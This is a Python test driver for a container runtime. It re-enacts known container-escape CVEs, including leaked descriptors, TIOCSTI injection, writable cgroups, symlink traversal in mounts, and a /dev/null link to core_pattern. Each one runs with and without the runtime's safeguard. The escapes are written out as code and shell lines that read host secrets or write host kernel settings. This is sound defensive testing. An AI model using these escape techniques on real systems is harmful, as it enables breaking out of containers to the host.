"""Attack the set-up of a container, where no option leaves out what stands in the way: here the test leaves it out.

    python3 -S attack_driver.py BASE NAME…   →   {"NAME": [ANSWER, ANSWER], …}

ANSWER is what the attack got ("THROUGH …"), or the error that stopped it. Each attack runs twice on the engine's own
functions: as they are, and with one of them replaced by one that does not take care.
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import json
import os
import select
import sys
import tempfile
import termios
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from types import ModuleType
from typing import Any

from engine_driver import Driver

from vmcontainer_kernel.container import config, devices, inside, linux, mappings, process
from vmcontainer_kernel.container.birth import bear
from vmcontainer_kernel.container.entering import enter_child
from vmcontainer_kernel.container.options import Options
from vmcontainer_kernel.container.parsing import parse
from vmcontainer_kernel.container.planning import plan
from vmcontainer_kernel.container.reports import Launch, read_report
from vmcontainer_kernel.container.spec import User
from vmcontainer_kernel.container.step import Scene, Step
from vmcontainer_kernel.errors import LabError

VOLUMES = ["/usr:/usr:ro", "/usr/lib:/lib:ro", "/usr/lib64:/lib64:ro", "/attacks:/attacks"]
PROGRAM = [
    "/usr/bin/python3",
    "-S",
    "-B",
    "-c",
    "import sys; sys.path[:0] = ['/attacks']; import programs; programs.main()",
]
KEY = b"vmcontainer-victim"
NR_ADD_KEY = 217 if os.uname().machine == "aarch64" else 248


@contextlib.contextmanager
def replaced(module: ModuleType, **functions: Any) -> Iterator[None]:
    """Put other functions into a module, for a while."""
    before = {name: getattr(module, name) for name in functions}
    for name, function in functions.items():
        setattr(module, name, function)
    try:
        yield
    finally:
        for name, function in before.items():
            setattr(module, name, function)


def nothing(*_: Any, **__: Any) -> None:
    """Do nothing, in place of what would."""


class Attacks(Driver):
    """Each public method is an attack: it yields contexts, "as it is" and "left out", and attacks in each."""

    def program(self, attack: str, stdin: int | None = None, **options: Any) -> str:
        """Run one of `programs.py` in a container; return what it got, or what stopped it."""
        answer = self.inside([*PROGRAM, attack], stdin, volumes=VOLUMES, **options)
        through, text = json.loads(answer)[attack] if answer.startswith("{") else (False, answer)
        return f"THROUGH {text}" if through else str(text)

    def shell(self, script: str, **options: Any) -> str:
        """Run a script in a container; return what it says, or what stopped it. (A start of Python takes long here.)"""
        return self.inside(["/bin/sh", "-c", f"({script}) 2>&1"], **options)

    def inside(self, argv: list[str], stdin: int | None = None, **options: Any) -> str:
        container = self.runtime.create("a", Options.from_json({"argv": argv, **options}))

        def start(stdio: tuple[int, int, int]) -> Launch:
            return self.runtime.start(container, stdio if stdin is None else (stdin, *stdio[1:]))

        try:
            result = self.finish(self._launch(start, container))
        finally:
            self.remove("a", force=True)
        return str(result["error"]["message"] if result["error"] else result["out"].strip())

    # -- processes that enter a container

    def runtime_program(self) -> Iterator[Any]:
        """CVE-2019-5736: a process that enters is the runtime's program until it executes the container's. Here it is
        held on that way, after it has given up its rights; one of the container looks at it.
        """

        def without_dumpable(option: int, *rest: int) -> None:
            return None if option == linux.PR_SET_DUMPABLE else prctl(option, *rest)

        prctl = linux.prctl
        yield contextlib.nullcontext(), self._enter_and_look
        yield replaced(linux, prctl=without_dumpable), self._enter_and_look

    def _enter_and_look(self) -> str:
        # The rights of the one who looks are those of the one who enters: with fewer he would be refused for that.
        container = self.runtime.create("a", Options.from_json({"argv": ["sleep", "60"]}))
        pid = self._launch(lambda stdio: self.runtime.start(container, stdio), container)
        hold_r, hold_w = os.pipe2(os.O_CLOEXEC)
        try:
            while not Path(f"/proc/{pid}/cmdline").read_bytes().startswith(b"sleep"):
                select.select([], [], [], 0.01)
            held = self._enter_held(container, hold_r)
            look = "for p in /proc/[0-9]*; do grep -q attack_drive[r] $p/cmdline && cat $p/exe | head -c 4; done 2>&1"
            answer = self.finish(self.exec("a", {"argv": ["/bin/sh", "-c", look]}))["out"]
            os.close(hold_w)
            os.waitpid(held, 0)
        finally:
            os.close(hold_r)
            self.remove("a", force=True)
        return f"THROUGH {answer!r}" if answer.endswith("ELF") else str(answer)

    def _enter_held(self, container: Any, hold_fd: int) -> int:
        held_r, held_w = os.pipe2(os.O_CLOEXEC)

        def hold(scene: Scene) -> None:
            os.write(scene.extra[1], b"+")
            os.close(scene.extra[1])
            select.select([scene.extra[0]], [], [])

        step = Step("hold", "", "", "", hold)
        steps = process.identity_steps(container.spec.process, user_namespace=False, tty=False, last=[step])
        flags = sum(linux.NAMESPACE_FLAGS[kind] for kind in container.spec.linux.kinds)
        null = os.open("/dev/null", os.O_RDWR | os.O_CLOEXEC)
        one = enter_child(flags, container.pid, steps, (null,) * 3, container.cgroup, extra=(hold_fd, held_w))
        for fd in (null, held_w):
            os.close(fd)
        assert os.read(held_r, 1) == b"+", read_report(os.read(one.report_fd, 65536))
        os.close(held_r)
        os.close(one.report_fd)
        return one.pid

    # -- descriptors and folders

    def left_open(self) -> Iterator[Any]:
        """CVE-2024-21626: a descriptor of the runtime's that leads to a folder of the node, not close-on-exec."""
        fd = folder_left_open()
        attack = partial(self.shell, "cat /proc/self/fd/*/../run/attacks-secret && echo THROUGH")
        yield contextlib.nullcontext(), attack
        yield replaced(linux, close_range=nothing), attack
        os.close(fd)

    def working_folder(self) -> Iterator[Any]:
        """CVE-2024-21626: the container's folder is to be /proc/self/fd/N, which was the runtime's. The descriptor is
        closed already; but were it not, the folder has no path in here, and that is looked at.
        """
        fd = folder_left_open()
        attack = partial(self.shell, "cat ../run/attacks-secret && echo THROUGH", workdir=f"/proc/self/fd/{fd}")
        yield replaced(linux, close_range=nothing), attack
        with replaced(linux, close_range=nothing):
            yield replaced(process, _enter=lambda path, _: os.chdir(path)), attack
        os.close(fd)

    # -- sessions

    def terminal_input(self) -> Iterator[Any]:
        """CVE-2017-5226: the container gets the node's terminal as its input; TIOCSTI types into it."""
        _, slave = os.openpty()
        fcntl.ioctl(slave, termios.TIOCSCTTY, 0)

        def attack() -> str:
            answer = self.program("terminal_input", slave)
            typed = select.select([slave], [], [], 0)[0] and os.read(slave, 100)
            return f"{answer} and read {typed!r}" if typed else answer

        yield contextlib.nullcontext(), attack
        yield replaced(os, setsid=nothing), attack
        # Neither is closed: that would hang up on this session, which is ours.

    def node_key(self) -> Iterator[Any]:
        """A new session keyring: the one of before holds the node's keys. (Without the filter, which forbids all calls
        for keys anyway.)
        """
        linux.join_session_keyring()
        assert ctypes.CDLL(None).syscall(ctypes.c_long(NR_ADD_KEY), b"user", KEY, b"secret", 6, -3) > 0
        attack = partial(self.program, "node_key", security=["seccomp=unconfined"])
        yield contextlib.nullcontext(), attack
        yield replaced(linux, join_session_keyring=nothing), attack

    # -- control groups

    def control_group(self) -> Iterator[Any]:
        """CVE-2022-0492: the group's files are read-only, and below the container's own group there are no others."""

        def writable(destination: str, kind: str, *options: str) -> dict[str, Any]:
            changed = ["rw" if option == "ro" and kind == "cgroup" else option for option in options]
            return mount(destination, kind, *changed)

        mount = config._mount
        attack = partial(self.shell, "echo max > /sys/fs/cgroup/pids.max && echo THROUGH", pids_limit=20)
        yield contextlib.nullcontext(), attack
        yield replaced(config, _mount=writable), attack

    def file_capabilities(self) -> Iterator[Any]:
        """CVE-2022-29162: inheritable capabilities make a file's inheritable ones permitted, for any user."""

        def as_docker_once_did(options: Any, _: Any) -> dict[str, list[str]]:
            held = capabilities(options, User())
            return {**held, "inheritable": held["bounding"], "effective": []}

        capabilities = config._capabilities
        attack = partial(self.program, "file_capabilities", user="1000:1000", without=["no-new-privs"])
        yield contextlib.nullcontext(), attack
        yield replaced(config, _capabilities=as_docker_once_did), attack

    # -- paths below the root, from bundles that somebody else has made

    def link_in_the_image(self) -> Iterator[Any]:
        """CVE-2021-30465, CVE-2024-45310: a mount's place leads through a link with ``..``. While the node's root still
        lies on top of the new one, that is a way out: a folder is made, and something mounted, on the node.
        """

        def trusting(path: str, *, links: bool = True) -> int:
            Path(path).mkdir(parents=True, exist_ok=True)
            return os.open(path, os.O_PATH | os.O_DIRECTORY)

        def attack() -> str:
            with bundle() as (path, document):
                outside = Path(tempfile.mkdtemp(dir="/run"))
                (path / "rootfs/link").symlink_to(f"bin/../..{outside}")
                document["mounts"].append({"destination": "/link/made", "type": "tmpfs", "source": "tmpfs"})
                answer = self.bear(path, document)
                return f"THROUGH {outside}/made is on the node" if (outside / "made").exists() else f"inside: {answer}"

        yield contextlib.nullcontext(), attack
        yield replaced(inside, folder=trusting), attack

    def false_null(self) -> Iterator[Any]:
        """CVE-2025-31133: the image's /dev/null is a link to a setting of the node; "masked" with it, a file in /proc
        is that setting, and can be written.
        """

        def attack() -> str:
            with bundle() as (path, document):
                (path / "rootfs/dev").mkdir()
                (path / "rootfs/dev/null").symlink_to("/proc/sys/kernel/core_pattern")
                document["mounts"] = document["mounts"][:1]
                document["linux"] |= {"maskedPaths": ["/proc/timer_list"], "readonlyPaths": ["/proc/sys"]}
                script = "cat /proc/timer_list; cat /proc/timer_list > /proc/timer_list && echo THROUGH written"
                return self.bear(path, document, script)

        yield contextlib.nullcontext(), attack
        yield replaced(devices, _check_same=nothing, is_device=lambda *_: True), attack

    def false_procfs(self) -> Iterator[Any]:
        """CVE-2019-16884, CVE-2025-52881: what the runtime writes to the kernel's files goes elsewhere, as a volume
        lies over /proc/sys/net: the setting is not made, or (by a link) another one is.
        """

        def attack() -> str:
            with bundle() as (path, document):
                false = path / "net/ipv4"
                false.mkdir(parents=True)
                (false / "ip_forward").write_text("0")
                source = {"type": "bind", "source": str(path / "net"), "options": ["bind"]}
                document["mounts"].append({"destination": "/proc/sys/net", **source})
                document["linux"]["sysctl"] = {"net.ipv4.ip_forward": "1"}
                answer = self.bear(path, document)
                return f"THROUGH swallowed{answer}" if (false / "ip_forward").read_text() == "1" else answer

        yield contextlib.nullcontext(), attack
        yield replaced(linux, is_procfs=lambda _: True), attack

    def bear(self, path: Path, document: dict[str, Any], script: str = "true") -> str:
        """Start a container from a bundle; return its output or error."""
        document["process"]["args"] = ["/bin/sh", "-c", script]
        spec = parse(document)
        out_r, out_w = os.pipe2(os.O_CLOEXEC)
        null = os.open("/dev/null", os.O_RDONLY | os.O_CLOEXEC)
        one, gate = bear(spec, str(path), plan(spec, str(path), (), None), (null, out_w, out_w), nothing)
        for fd in (out_w, null, gate):
            os.close(fd)
        with open(out_r) as stream, open(one.report_fd, "rb") as reports:
            out, report = stream.read(), read_report(reports.read())
        os.waitpid(one.pid, 0)
        return str(report.error) if report.error else out.strip()

    # -- ids

    def drop_a_group(self) -> Iterator[Any]:
        """CVE-2014-8989: a file denies a group what it gives to all others; a member maps himself and drops the group.
        The kernel wants ``setgroups deny`` of an ordinary user; here the mapping is written by root, who need not.
        """
        denied = Path("/run/denied")
        denied.write_text("secret")
        os.chown(denied, 0, 2000)
        denied.chmod(0o604)

        yield contextlib.nullcontext(), partial(drop_a_group, denied, by_root=False)
        yield contextlib.nullcontext(), partial(drop_a_group, denied, by_root=True)


def folder_left_open() -> int:
    """Open a folder of the node, for all who come after: not close-on-exec, and where no number of the engine is."""
    fd = os.open("/usr", os.O_RDONLY)
    left_open = fcntl.fcntl(fd, fcntl.F_DUPFD, 100)
    os.close(fd)
    return left_open


def drop_a_group(denied: Path, *, by_root: bool) -> str:
    """As user 1000, of group 2000: let a child in a user namespace of its own drop the group and read the file."""
    ready_r, ready_w = os.pipe()
    go_r, go_w = os.pipe()
    answer_r, answer_w = os.pipe()
    pids_r, pids_w = os.pipe()
    member = os.fork()
    if member == 0:
        os.setgroups([2000])
        os.setresgid(1000, 1000, 1000)
        os.setresuid(1000, 1000, 1000)
        linux.prctl(linux.PR_SET_DUMPABLE, 1)
        child = os.fork()
        if child == 0:
            linux.unshare(linux.CLONE_NEWUSER)
            os.write(ready_w, b"+")
            os.read(go_r, 1)
            os.write(answer_w, _read_without_group(denied).encode())
            os._exit(0)
        os.write(pids_w, str(child).encode())
        os.read(ready_r, 1)
        if not by_root:
            mappings.write_maps(child, _mapped())
            os.write(go_w, b"+")
        os.waitpid(child, 0)
        os._exit(0)
    child = int(os.read(pids_r, 20))
    if by_root:
        while Path(f"/proc/{child}/ns/user").readlink() == Path("/proc/self/ns/user").readlink():
            select.select([], [], [], 0.01)
        mappings.write_maps(child, _mapped())
        os.write(go_w, b"+")
    answer = os.read(answer_r, 1000).decode()
    os.waitpid(member, 0)
    for fd in (ready_r, ready_w, go_r, go_w, answer_r, answer_w, pids_r, pids_w):
        os.close(fd)
    return answer


def _mapped() -> Any:
    ids = [{"containerID": 0, "hostID": 1000, "size": 1}]
    kinds = [{"type": "user"}, {"type": "mount"}]
    base = {"ociVersion": "1.2.0", "process": {"args": ["x"], "cwd": "/", "user": {}}, "root": {"path": "r"}}
    return parse({**base, "linux": {"namespaces": kinds, "uidMappings": ids, "gidMappings": ids}}).linux


def _read_without_group(denied: Path) -> str:
    try:
        os.setgroups([])
        return f"THROUGH {denied.read_text()}"
    except OSError as error:
        return str(error)


@contextlib.contextmanager
def bundle() -> Iterator[tuple[Path, dict[str, Any]]]:
    """Make a bundle of somebody else: a root with busybox, and a configuration."""
    with tempfile.TemporaryDirectory(dir="/run") as name:
        path = Path(name)
        (path / "rootfs/bin").mkdir(parents=True)
        for applet in ("sh", "cat", "true"):
            (path / "rootfs/bin" / applet).symlink_to("busybox")
        (path / "rootfs/bin/busybox").write_bytes(Path("/usr/bin/busybox").read_bytes())
        (path / "rootfs/bin/busybox").chmod(0o755)
        kinds = ("pid", "mount", "ipc", "uts", "network", "cgroup")
        user = {"uid": 0, "gid": 0}
        document: dict[str, Any] = {
            "ociVersion": "1.2.0",
            "process": {"args": [], "env": ["PATH=/bin"], "cwd": "/", "user": user, "noNewPrivileges": True},
            "root": {"path": "rootfs"},
            "mounts": [
                {"destination": "/proc", "type": "proc", "source": "proc"},
                {"destination": "/dev", "type": "tmpfs", "source": "tmpfs", "options": ["nosuid"]},
            ],
            "linux": {"namespaces": [{"type": kind} for kind in kinds]},
        }
        yield path, document


def attempt(attack: Callable[[], str]) -> str:
    try:
        return attack()
    except (LabError, OSError) as error:
        return f"{type(error).__name__}: {error}"


def main(base: str, *names: str) -> None:
    driver = Attacks(Path(base))
    answers: dict[str, list[str]] = {name: [] for name in names}
    for name in names:
        for context, attack in getattr(driver, name)():
            with context:
                answers[name].append(attempt(attack))
    driver.close()
    print(json.dumps(answers))


if __name__ == "__main__":
    main(*sys.argv[1:])
